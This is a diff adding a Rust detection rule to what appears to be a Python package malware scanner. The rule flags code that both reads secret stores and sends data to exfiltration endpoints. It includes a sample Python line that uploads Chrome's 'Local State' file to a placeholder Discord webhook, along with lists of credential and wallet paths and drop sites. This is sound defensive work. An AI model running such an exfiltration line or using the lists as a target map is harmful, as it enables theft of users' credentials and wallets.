@@ -1,0 +1,157 @@
+//! # HS111 secrets-exfiltration
+//!
+//! ## What it does
+//!
+//! Flags a file that both names stores of secrets (Chromium `Login Data` /
+//! `Local State` / cookies, Firefox `logins.json`, Discord's `Local
+//! Storage/leveldb`, wallet extensions and wallet folders, `~/.ssh` keys, the
+//! macOS keychain, cloud credentials) and sends data out: a Discord webhook,
+//! the Telegram Bot API, a paste or file-drop site, or an HTTP POST, SMTP or
+//! socket send.
+//!
+//! ## Why it matters
+//!
+//! Stealing secrets and shipping them home is what most malicious PyPI
+//! packages do: W4SP and its clones grab Discord tokens and browser
+//! passwords for a webhook, InvisibleFerret's browser module uploads to its
+//! C2 and Telegram, the Slow Pisces stealer posted `~/.ssh`, `~/.aws`,
+//! `~/.kube` and the keychain, LiteLLM 1.82.8's `.pth` did the same for
+//! every secret on the host. Either half alone is common; the pair is not.
+//!
+//! ## Example
+//!
+//! ```python
+//! path = os.path.join(os.getenv("LOCALAPPDATA"), "Google", "Chrome", "User Data", "Local State")
+//! requests.post("https://discord.com/api/webhooks/1/x", files={"f": open(path, "rb")})
+//! ```
+//!
+//! ## False positives
+//!
+//! Cloud SDKs read their own credentials and talk to their own APIs; a single
+//! cloud-credential path with an ordinary HTTP call is therefore not enough.
+//! Browser-forensics and backup tools.
+//!
+//! ## References
+//!
+//! - THREATS.md H18, H19, H20, H21; MITRE ATT&CK T1555.003, T1552.001, T1567
+//! - Elastic, "Bit ByBit" (2025); MITRE S1245 InvisibleFerret
+
+use crate::python::{Module, fold, names};
+use crate::report::Severity;
+use crate::rules::{Checker, Meta, Rule};
+use tree_sitter::Node;
+
+pub struct SecretsExfiltration;
+
+static META: Meta = crate::rule_meta!("HS111", "secrets-exfiltration", Critical, High);
+
+/// (pattern in a literal, store it names, whether it is a strong signal alone)
+const STORES: &[(&str, &str, bool)] = &[
+    ("login data", "browser passwords", true),
+    ("local state", "browser master key", true),
+    ("web data", "browser autofill", true),
+    ("google/chrome/user data", "Chrome profile", true),
+    ("bravesoftware", "Brave profile", true),
+    ("opera software", "Opera profile", true),
+    ("yandexbrowser", "Yandex profile", true),
+    ("logins.json", "Firefox passwords", true),
+    ("key4.db", "Firefox keys", true),
+    ("cookies.sqlite", "Firefox cookies", true),
+    ("local storage/leveldb", "Discord/browser token store", true),
+    ("discord/local storage", "Discord token store", true),
+    ("nkbihfbeogaeaoehlefnkodbefgpgknn", "MetaMask wallet", true),
+    ("bfnaelmomeimhlpmgjnjophhpkkoljpa", "Phantom wallet", true),
+    ("ibnejdfjmmkpcnlpebklmnkoeoihofec", "TronLink wallet", true),
+    ("hnfanknocfeofbddgcijnmhnfnkdnaad", "Coinbase wallet", true),
+    ("exodus/exodus.wallet", "Exodus wallet", true),
+    ("atomic/local storage", "Atomic wallet", true),
+    ("electrum/wallets", "Electrum wallet", true),
+    ("wallet.dat", "wallet file", true),
+    ("solana/id.json", "Solana key", true),
+    (".ssh/id_rsa", "SSH private key", true),
+    (".ssh/id_ed25519", "SSH private key", true),
+    ("login.keychain", "macOS keychain", true),
+    (".aws/credentials", "AWS credentials", false),
+    (".kube/config", "Kubernetes config", false),
+    (".config/gcloud", "Google Cloud credentials", false),
+    (".azure/", "Azure credentials", false),
+    (".docker/config.json", "Docker credentials", false),
+    (".git-credentials", "git credentials", false),
+    (".pypirc", "PyPI token", false),
+    (".npmrc", "npm token", false),
+];
+
+/// Places made for receiving stolen data (or easily abused as such).
+const DROPS: &[(&str, &str)] = &[
+    ("discord.com/api/webhooks", "a Discord webhook"),
+    ("discordapp.com/api/webhooks", "a Discord webhook"),
+    ("api.telegram.org/bot", "the Telegram Bot API"),
+    ("hooks.slack.com/services", "a Slack webhook"),
+    ("pastebin.com/api", "Pastebin"),
+    ("transfer.sh", "transfer.sh"),
+    ("file.io", "file.io"),
+    ("gofile.io", "Gofile"),
+    ("anonfiles.com", "AnonFiles"),
+    ("webhook.site", "webhook.site"),
+    ("pipedream.net", "Pipedream"),
+];
+
+impl Rule for SecretsExfiltration {
+    fn meta(&self) -> &'static Meta {
+        &META
+    }
+
+    fn check(&self, m: &Module<'_>, checker: &mut Checker<'_>) {
+        if m.strings.is_empty() {
+            return;
+        }
+        // All literals, joined by '/', so that path pieces passed separately
+        // to os.path.join still read as one path.
+        let mut hay = String::new();
+        let mut drop: Option<(Node<'_>, &str)> = None;
+        for s in &m.strings {
+            let value = fold::template(m, *s).to_ascii_lowercase().replace('\\', "/");
+            if drop.is_none()
+                && let Some((_, what)) = DROPS.iter().find(|(p, _)| value.contains(p))
+            {
+                drop = Some((*s, what));
+            }
+            if value.len() < 4096 {
+                hay.push('/');
+                hay.push_str(&value);
+            }
+        }
+        let mut stores: Vec<&str> = Vec::new();
+        let mut strong = false;
+        for (pattern, what, alone) in STORES {
+            if hay.contains(pattern) && !stores.contains(what) {
+                stores.push(what);
+                strong |= alone;
+            }
+        }
+        if stores.is_empty() || !(strong || stores.len() >= 2) {
+            return;
+        }
+        let send = m
+            .calls
+            .iter()
+            .find(|c| c.qname.as_deref().is_some_and(names::is_network_send));
+        let (node, severity, channel) = match (drop, send) {
+            (Some((node, what)), _) if strong => (node, Severity::Critical, what.to_string()),
+            (Some((node, what)), _) => (node, Severity::High, what.to_string()),
+            (None, Some(call)) if strong => (
+                call.node,
+                Severity::High,
+                format!("{}()", call.qname.as_deref().unwrap_or("?").trim_end_matches("()")),
+            ),
+            _ => return,
+        };
+        checker.report(
+            &META,
+            node,
+            severity,
+            m.context(m.scope_at(node)),
+            format!("reads {} and sends data to {channel}", stores.join(", ")),
+        );
+    }
+}
